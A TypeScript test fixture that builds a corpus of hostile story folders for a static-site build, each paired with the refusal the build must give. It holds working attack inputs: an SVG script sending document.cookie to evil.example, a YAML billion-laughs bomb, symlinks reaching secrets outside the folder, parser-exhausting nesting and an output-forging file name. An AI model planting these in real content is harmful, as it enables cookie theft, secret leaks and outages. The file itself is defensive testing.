import { deflateSync } from 'node:zlib';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { readStory, type StoryReading } from '../../src/source/story-source.ts';

/**
 * The hostile-story corpus: content folders an author, a co-author's pull request or a bad
 * tool could hand the build, each named after its attack, with the problem the build must
 * give (naming the file). `tests/unit/hostile-story.test.ts` sweeps it through the build's
 * own reading of a story; each entry must end in a refusal within seconds.
 */
export interface HostileStory {
  /** The attack, as the test is named. */
  attack: string;
  /** Files of the content folder beyond a sound story.md and one chapter: path → text or bytes, or a link. */
  files: Record<string, string | Uint8Array | { linkTo: string }>;
  /** The problem the build gives. */
  problem: RegExp;
}

/** A content file: frontmatter and a body. */
export const chapter = (front: string, body = 'Words of the chapter.') => `---\n${front}\n---\n\n${body}\n`;

/** A PNG that says it is `width` × `height` in its header (its pixels are never decoded). */
export function pngHeader(width: number, height: number): Uint8Array {
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(16))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return (crc ^ 0xffffffff) >>> 0;
}

/** Frontmatter whose YAML aliases nest lists of lists to stand for 9¹² values ("a billion laughs" in YAML). */
export const yamlLaughs = [
  'a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]',
  ...Array.from({ length: 11 }, (_, i) => `a${i + 1}: &a${i + 1} [${Array(9).fill(`*a${i}`).join(', ')}]`),
  'tags: *a11',
].join('\n');

export const hostileStories: HostileStory[] = [
  {
    attack: 'a chapter whose YAML aliases stand for billions of values (a billion laughs)',
    files: { 'chapters/chapter-2.md': chapter(`title: Two\norder: 2\n${yamlLaughs.replace('tags:', 'authorsNote:')}`) },
    problem: /chapters\/chapter-2\.md: the frontmatter holds more than 100,000 values once its YAML aliases \(\*name\) are read out/,
  },
  {
    attack: 'an SVG picture with a script, put in images/ by hand and shown nowhere',
    files: {
      'images/map.svg':
        '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example/"+document.cookie)</script><circle r="4"/></svg>',
    },
    problem: /images\/map\.svg: the picture holds a script \(<script>\), which would run or load on the site/,
  },
  {
    attack: 'an SVG picture with an event handler and a reference to another site',
    files: {
      'images/badge.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="https://tracker.example/p.png"/></svg>',
    },
    problem:
      /images\/badge\.svg: the picture holds an event handler \(onload\), an outside reference \(href="https:\/\/tracker\.example\/p\.png"\)/,
  },
  {
    attack: 'a file named like a picture that is a page',
    files: { 'images/lake.png': '<html><script>alert(1)</script></html>' },
    problem: /images\/lake\.png: not a picture, or a damaged one/,
  },
  {
    attack: 'a picture of another kind than its name says',
    files: { 'images/lake.jpg': pngHeader(10, 10) },
    problem: /images\/lake\.jpg: the file is a PNG picture, not the JPEG its name says/,
  },
  {
    attack: 'a 15,000 × 15,000 pixel picture that would take gigabytes to process',
    files: { 'images/cover.png': pngHeader(15000, 15000) },
    problem: /images\/cover\.png: 15000×15000 pixels \(225 megapixels\) is more than a page can use/,
  },
  {
    attack: 'a chapter that is a link to a file outside the content folder (a secret of the machine that builds)',
    files: { 'chapters/leak.md': { linkTo: '../../outside/secret.md' } },
    problem: /chapters\/leak\.md: a link to a file outside the content folder/,
  },
  {
    attack: 'a picture reached through a linked folder outside the content folder',
    files: {
      'images/linked': { linkTo: '../../outside' },
      'chapters/chapter-2.md': chapter('title: Two\norder: 2', '![the secret](images/linked/photo.png)'),
    },
    problem: /chapters\/chapter-2\.md:\d+: the image "images\/linked\/photo\.png" is not in the content folder/,
  },
  {
    attack: 'a link to itself in the pictures (a loop) that would crash the build',
    files: { 'images/loop': { linkTo: 'loop' }, 'chapters/chapter-2.md': chapter('title: Two\norder: 2', '![loop](images/loop/x.png)') },
    problem: /chapters\/chapter-2\.md:\d+: the image "images\/loop\/x\.png" is not in the content folder/,
  },
  {
    attack: 'a folder named like a chapter file',
    files: { 'chapters/chapter-2.md/notes.txt': 'a folder' },
    problem: /chapters\/chapter-2\.md\/: a folder named like a chapter file/,
  },
  {
    attack: 'a slug of 300 characters, longer than any file system takes',
    files: { 'chapters/chapter-2.md': chapter(`title: Two\norder: 2\nslug: ${'a'.repeat(300)}`) },
    problem: /chapters\/chapter-2\.md: slug: slug "a{300}" is longer than 100 characters/,
  },
  {
    attack: 'two chapters whose file names differ only in Unicode normalisation, one overwriting the other',
    files: { 'chapters/caf\u00e9.md': chapter('title: One\norder: 5'), 'chapters/cafe\u0301.md': chapter('title: Two\norder: 6') },
    problem: /slug café is used by both \S+chapters\/caf.+\.md and \S+chapters\/caf.+\.md/,
  },
  {
    attack: 'quotes nested 5,000 deep, which overflowed the stack',
    files: { 'chapters/chapter-2.md': chapter('title: Two\norder: 2', `${'>'.repeat(5000)} deep`) },
    problem: /chapters\/chapter-2\.md:6: the text nests more than 64 levels deep/,
  },
  {
    attack: 'a list nested 3,000 deep, whose parsing time grows with the cube of its depth',
    files: {
      'chapters/chapter-2.md': chapter(
        'title: Two\norder: 2',
        Array.from({ length: 3000 }, (_, i) => `${'  '.repeat(i)}- item`).join('\n'),
      ),
    },
    problem: /chapters\/chapter-2\.md:\d+: the text nests more than 64 levels deep/,
  },
  {
    attack: 'a paragraph of 60,000 lines, whose parsing time grows with the square of its lines',
    files: { 'chapters/chapter-2.md': chapter('title: Two\norder: 2', `Before.\n\n${'a: b\n'.repeat(60_000)}`) },
    problem: /chapters\/chapter-2\.md:8: more than 20,000 lines follow from here without a blank line between them/,
  },
  {
    attack: 'a paragraph of 40,000 emphasised words, whose parsing time grows with the square of its marks',
    files: { 'chapters/chapter-2.md': chapter('title: Two\norder: 2', `Before.\n\n${'*a* '.repeat(40_000)}`) },
    problem: /chapters\/chapter-2\.md:8: more than 10,000 emphasis marks or brackets \(\*, _, ~ or \[\) follow from here in one paragraph/,
  },
  {
    attack: 'brackets nested 80,000 deep in one paragraph, whose pairing took the build a minute',
    files: { 'chapters/chapter-2.md': chapter('title: Two\norder: 2', `Before.\n\n${'['.repeat(80_000)}x${']'.repeat(80_000)}`) },
    problem: /chapters\/chapter-2\.md:8: more than 10,000 emphasis marks or brackets/,
  },
  {
    attack: '::: blocks nested 5,000 deep, whose parsing time grows with the cube of their depth (5 minutes)',
    files: { 'chapters/chapter-2.md': chapter('title: Two\norder: 2', `${':::verse\n'.repeat(5000)}deep\n${':::\n'.repeat(5000)}`) },
    problem: /chapters\/chapter-2\.md:70: the text nests more than 64 levels deep/,
  },
  {
    attack: 'a table 8,000 columns wide, each cell costing the build as a paragraph does (a minute for 50 rows)',
    files: {
      'chapters/chapter-2.md': chapter(
        'title: Two\norder: 2',
        `Before.\n\n|${' a |'.repeat(8000)}\n|${'---|'.repeat(8000)}\n${`|${' x |'.repeat(8000)}\n`.repeat(50)}`,
      ),
    },
    problem: /chapters\/chapter-2\.md:8: a table of more than 20,000 cells starts here/,
  },
  {
    attack: '200,000 paragraphs of a word each (a 600 KB file), which would take the build minutes',
    files: { 'chapters/chapter-2.md': chapter('title: Two\norder: 2', 'x\n\n'.repeat(200_000)) },
    problem: /chapters\/chapter-2\.md:\d+: the text runs to more than 50,000 lines from here/,
  },
  {
    attack: 'a footnote marked 5,000 times, each mark a link back from the note (40,000 made a 10 MB page)',
    files: { 'chapters/chapter-2.md': chapter('title: Two\norder: 2', `Before.\n\n${'Word[^n] '.repeat(5000)}\n\n[^n]: The note.`) },
    problem: /chapters\/chapter-2\.md:8: the footnote \[\^n\] is marked more than 100 times/,
  },
  {
    attack: 'a file name with a line break, which printed a line of output of its own (“✓ 0 errors”)',
    files: { 'chapters/bad\n✓ 0 errors\u2028.md': chapter('title: Two') },
    problem: /chapters\/bad\\n✓ 0 errors\\u2028\.md: order: order is required/,
  },
  {
    attack: 'raw HTML nested 5,000 deep',
    files: { 'chapters/chapter-2.md': chapter('title: Two\norder: 2', `${'<div>'.repeat(5000)}deep${'</div>'.repeat(5000)}`) },
    problem: /chapters\/chapter-2\.md(?::\d+)?: the raw HTML nests more than 64 levels deep/,
  },
  {
    attack: 'raw HTML nested 200 deep, too shallow to overflow the parser, which was published (the check of raw HTML never ran)',
    files: { 'chapters/chapter-2.md': chapter('title: Two\norder: 2', `Before ${'<em>'.repeat(200)}deep${'</em>'.repeat(200)}`) },
    problem: /chapters\/chapter-2\.md:6: the raw HTML nests more than 64 levels deep/,
  },
  {
    attack: 'emphasis nested 100 deep in Markdown, reported once, as the text it is',
    files: { 'chapters/chapter-2.md': chapter('title: Two\norder: 2', `Hello ${'*a **b '.repeat(50)}x${'** c*'.repeat(50)}`) },
    problem: /chapters\/chapter-2\.md:6: the text nests more than 64 levels deep/,
  },
  {
    attack: 'a picture from another site, which tells that site who reads',
    files: { 'chapters/chapter-2.md': chapter('title: Two\norder: 2', 'Look: ![a map](https://tracker.example/map.png)') },
    problem: /chapters\/chapter-2\.md:6: the picture https:\/\/tracker\.example\/map\.png is on another site/,
  },
  {
    attack: 'a language tag of the right shape that no browser knows',
    files: { 'story.md': chapter('title: T\nauthor: A\nlanguage: en-12', 'A summary.') },
    problem: /story\.md: language: language must be a BCP 47 tag/,
  },
  {
    attack: 'a label named after what every object has',
    files: { 'story.md': chapter('title: T\nauthor: A\nlabels:\n  toString: x', 'A summary.') },
    problem: /story\.md: labels\.toString: labels: unknown key "toString"/,
  },
  {
    attack: 'a vertical tab left in a chapter',
    files: { 'chapters/chapter-2.md': chapter('title: Two\norder: 2', 'and\vthe') },
    problem: /chapters\/chapter-2\.md:6: an invisible control character \(U\+000B\)/,
  },
];

/** Writes a hostile story's content folder (a sound story with the attack's files added); `outside` holds a file beyond it. */
export function writeHostileStory(root: string, story: HostileStory): string {
  const content = join(root, 'content');
  mkdirSync(join(content, 'chapters'), { recursive: true });
  mkdirSync(join(root, 'outside'), { recursive: true });
  writeFileSync(join(root, 'outside', 'secret.md'), chapter('title: Secret\norder: 9', 'A token: s3cr3t'));
  writeFileSync(join(root, 'outside', 'photo.png'), pngHeader(4, 4));
  writeFileSync(join(content, 'story.md'), chapter('title: Hostile\nauthor: Mallory', 'A summary.'));
  writeFileSync(join(content, 'chapters', 'chapter-1.md'), chapter('title: One\norder: 1'));
  for (const [path, file] of Object.entries(story.files)) {
    const target = join(content, path);
    mkdirSync(dirname(target), { recursive: true });
    if (typeof file === 'object' && 'linkTo' in file) symlinkSync(file.linkTo, target);
    else writeFileSync(target, file);
  }
  return content;
}

/** A sound story with `files` added (no attack) in `root`, read as the build reads it, as of `now`. */
export function readSoundStory(root: string, files: HostileStory['files'], now = new Date()): Promise<StoryReading> {
  return readStory(writeHostileStory(root, { attack: 'none', files, problem: /^$/ }), { base: '/', now });
}
